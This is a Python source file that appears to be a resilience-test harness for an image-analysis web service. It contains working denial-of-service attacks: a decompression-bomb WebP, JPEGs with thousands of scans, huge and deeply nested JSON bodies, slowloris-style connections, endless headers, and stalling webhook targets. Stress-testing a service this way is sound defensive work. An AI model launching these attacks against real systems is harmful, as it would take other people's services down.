# Copyright 2026 the spark_ros authors. SPDX-License-Identifier: Apache-2.0
"""The attacks: each a coroutine that says when it has begun, and goes on until it is killed.

    ATTACKER_KEY=… python attackers.py NAME URL
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import itertools
import json
import os
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

MEBIBYTE = 1024 * 1024
QUESTION: dict[str, Any] = {
    'content_location': 'http://127.0.0.1:9/a.jpg', 'instructions': 'Is the way free?',
}
# 34 bytes that say they are a lossless WebP of 80 megapixels.
WEBP = bytes.fromhex(
    '524946461a000000574542505650384c0e0000002fefe2bb08071011fd0f4444ff03'
)
SIDE = 8944
DRIP_S = 1.0
GONE_S = 2.0
AT_ONCE = 4
STALLING = 2_000


@dataclass(frozen=True)
class Service:
    """Who is attacked, with what the attacker knows."""

    url: str
    key: str

    @contextlib.asynccontextmanager
    async def connected(
        self,
    ) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """Connect, and break the connection off in the end."""
        parts = urlsplit(self.url)
        reader, writer = await asyncio.open_connection(parts.hostname, parts.port, limit=2**16)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    def head(self, method: str, path: str, length: int, kind: str = 'application/json') -> bytes:
        """Return the head of a request with the key."""
        return (
            f'{method} {path} HTTP/1.1\r\nHost: {urlsplit(self.url).netloc}\r\n'
            f'Authorization: Bearer {self.key}\r\nContent-Type: {kind}\r\n'
            f'Content-Length: {length}\r\n\r\n'
        ).encode()

    async def send(self, path: str, body: bytes, kind: str = 'application/json') -> bytes:
        """POST a body and return the answer's first bytes."""
        async with self.connected() as (reader, writer):
            writer.write(self.head('POST', path, len(body), kind) + body)
            with contextlib.suppress(ConnectionError):
                await writer.drain()
            return await reader.read(2**16)

    async def upload(self, content: bytes) -> bytes:
        """POST an image."""
        part = b'Content-Disposition: form-data; name="image_file"; filename="a"\r\n\r\n'
        body = b'--x\r\n' + part + content + b'\r\n--x--\r\n'
        return await self.send('/v1/image', body, 'multipart/form-data; boundary=x')


async def images(service: Service) -> None:
    """Upload a picture of 80 megapixels in 34 bytes, and one of 24 in 70 KB, four at once."""
    pictures = itertools.cycle((WEBP, _large_picture()))
    _begun()
    await _again_and_again(lambda: service.upload(next(pictures)))


async def scans(service: Service) -> None:
    """Upload progressive JPEGs with 1,200 scans, and with 95; go away after two seconds."""
    pictures = itertools.cycle((_many_scans(1_200), _many_scans(95)))
    _begun()

    async def come_and_go() -> None:
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(service.upload(next(pictures)), GONE_S)

    await _again_and_again(come_and_go)


async def metadata(service: Service) -> None:
    """Ask about 50 images with 2 MB of metadata, and with 60 KB; read none of the answers."""
    _begun()
    tokens = []
    for size in (1_900_000, 60_000) * 3:
        body = json.dumps({
            **QUESTION, 'content_location': [QUESTION['content_location']] * 50,
            'metadata': {'a': 'x' * size},
        }).encode()  # fmt: skip
        said = await service.send('/v1/engagement', body)
        if b'"token":"' in said:
            tokens.append(said.partition(b'"token":"')[2][:36].decode())
    paths = [f'/v1/engagement/{token}' for token in tokens] + ['/v1/engagement?limit=50']
    await asyncio.gather(*(_never_read(service, path) for path in paths * AT_ONCE))


async def nesting(service: Service) -> None:
    """Send 2 MB of empty lists, fewer of them, and ten thousand priors for fifty images."""
    many, fewer = (b'{"metadata":{"a":[' + b'[],' * n + b'[]]}}' for n in (650_000, 95_000))
    prior = {'label': 'a', 'type': 'dot', 'vertices': [{'x': 0.5, 'y': 0.5}]}
    priors = json.dumps({
        **QUESTION, 'content_location': [QUESTION['content_location']] * 50,
        'priors': {'annotations': [prior] * 10_000},
    }).encode()  # fmt: skip
    bodies = itertools.cycle((many, fewer, priors))
    _begun()
    await _again_and_again(lambda: service.send('/v1/engagement', next(bodies)))


async def connections(service: Service) -> None:
    """Hold 400 connections that say nothing, and 400 that say it slowly; without a key."""
    _begun()
    await asyncio.gather(*(_drip(service, number % 2 == 0) for number in range(800)))


async def headers(service: Service) -> None:
    """Send headers without an end, and a URL without one; without a key."""
    _begun()
    await asyncio.gather(
        _endless(service, b'GET / HTTP/1.1\r\nHost: a\r\nX-A: ', 600 * MEBIBYTE),
        _endless(service, b'GET /', 100 * MEBIBYTE),
    )
    await asyncio.Event().wait()


async def webhooks(service: Service) -> None:
    """Ask 2,000 questions whose webhook hosts accept and never answer."""

    async def stall(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while await reader.read(2**16):
            pass
        writer.close()

    async with await asyncio.start_server(stall, '0.0.0.0', 0) as server:
        port = server.sockets[0].getsockname()[1]

        async def ask(numbers: Iterable[int]) -> None:
            for number in numbers:
                host = f'127.0.{1 + number // 250}.{1 + number % 250}'
                body = json.dumps({**QUESTION, 'webhook_url': f'http://{host}:{port}/'})
                await service.send('/v1/engagement', body.encode())

        await asyncio.gather(*(ask(range(first, STALLING, 8)) for first in range(8)))
        _begun()
        await asyncio.Event().wait()


@dataclass(frozen=True)
class Attack:
    """An attack, and what it needs.

    Attributes:
        open_files: how many files the service may have open, where that matters.
    """

    run: Callable[[Service], Awaitable[None]]
    open_files: int | None = None
    on_webhooks: bool = False


ATTACKS = {
    'images': Attack(images),
    'scans': Attack(scans),
    'metadata': Attack(metadata),
    'nesting': Attack(nesting),
    'connections': Attack(connections, open_files=256),
    'headers': Attack(headers),
    'webhooks': Attack(webhooks, on_webhooks=True),
}


def _begun() -> None:
    print('begun', flush=True)


async def _again_and_again(act: Callable[[], Awaitable[Any]]) -> None:
    async def go_on() -> None:
        while True:
            try:
                await act()
            except OSError:
                await asyncio.sleep(DRIP_S / 10)

    await asyncio.gather(*(go_on() for _ in range(AT_ONCE)))


async def _never_read(service: Service, path: str) -> None:
    while True:
        with contextlib.suppress(OSError):
            async with service.connected() as (_, writer):
                writer.transport.pause_reading()  # type: ignore[attr-defined]
                writer.write(service.head('GET', path, 0))
                await asyncio.sleep(5 * GONE_S)


async def _drip(service: Service, dripping: bool) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.TimeoutError):
            async with service.connected() as (reader, writer):
                for byte in _slowly() if dripping else itertools.repeat(b''):
                    writer.write(byte)
                    with contextlib.suppress(asyncio.TimeoutError):
                        if not await asyncio.wait_for(reader.read(100), DRIP_S):
                            break
        await asyncio.sleep(DRIP_S)


def _slowly() -> Iterable[bytes]:
    yield from (bytes([byte]) for byte in b'GET / HTTP/1.1\r\nHost: a\r\nX-A: ')
    yield from itertools.repeat(b'a')


async def _endless(service: Service, start: bytes, size: int) -> None:
    sent, block = 0, b'a' * MEBIBYTE
    while sent < size:
        with contextlib.suppress(OSError):
            async with service.connected() as (_, writer):
                writer.write(start)
                while sent < size:
                    writer.write(block)
                    sent += len(block)
                    await writer.drain()


def _large_picture() -> bytes:
    """Return a PNG of one grey with nearly 24 megapixels."""
    from PIL import Image

    file = io.BytesIO()
    Image.new('RGB', (4898, 4898), (128, 128, 128)).save(file, 'PNG')
    return file.getvalue()


def _many_scans(count: int) -> bytes:
    """Return a progressive JPEG of one grey whose last scan comes again and again."""
    from PIL import Image

    file = io.BytesIO()
    Image.new('L', (SIDE, SIDE), 128).save(file, 'JPEG', progressive=True)
    content = file.getvalue()
    last = content.rindex(b'\xff\xda')
    return content[:-2] + content[last:-2] * (count - content.count(b'\xff\xda')) + content[-2:]


def main() -> None:
    """Attack until killed."""
    _, name, url = sys.argv
    service = Service(url, os.environ['ATTACKER_KEY'])
    asyncio.run(ATTACKS[name].run(service))


if __name__ == '__main__':
    main()
